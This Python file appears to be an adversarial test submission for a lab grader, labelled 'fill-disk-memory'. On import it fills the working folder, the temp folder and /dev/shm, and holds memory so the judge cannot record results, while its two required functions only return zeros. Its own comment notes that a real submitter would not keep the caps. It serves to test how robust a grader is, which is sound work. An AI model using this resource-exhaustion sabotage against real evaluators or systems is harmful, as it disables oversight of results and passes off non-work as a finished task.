# attack: fill-disk-memory
# lab: lab01
# targets: 1.1 1.2
# Fills every writable place it finds (the working folder, the temporary folder, /dev/shm) and
# holds a large block of memory, so that the judge cannot write or keep its results. A courtesy
# cap (1 GiB of disk, 64 MiB of /dev/shm, 128 MiB of memory) keeps the self-test's own machine
# usable; a student would not stop there. The answers are zeros.
import os
import tempfile

import torch

CAPS = [(".", 1 << 30), (tempfile.gettempdir(), 1 << 30), ("/dev/shm", 1 << 26)]
for folder, cap in CAPS:
    try:
        fd = os.open(os.path.join(folder, ".cache-fill"), os.O_CREAT | os.O_WRONLY, 0o644)
        try:
            for size in range(os.fstat(fd).st_size + (1 << 26), cap + 1, 1 << 26):
                os.posix_fallocate(fd, 0, size)
        finally:
            os.close(fd)
    except OSError:
        pass
_hold = []
try:
    for _ in range(2):
        _hold.append(b"\x01" * (1 << 26))
except MemoryError:
    pass


def bilinear_sample(img, x, y):
    return torch.zeros(img.shape[-1], dtype=img.dtype)


def msda_naive_student(value, spatial_shapes, sampling_locations, attention_weights):
    B, S, M, D = value.shape
    return torch.zeros(B, sampling_locations.shape[1], M * D, dtype=value.dtype)
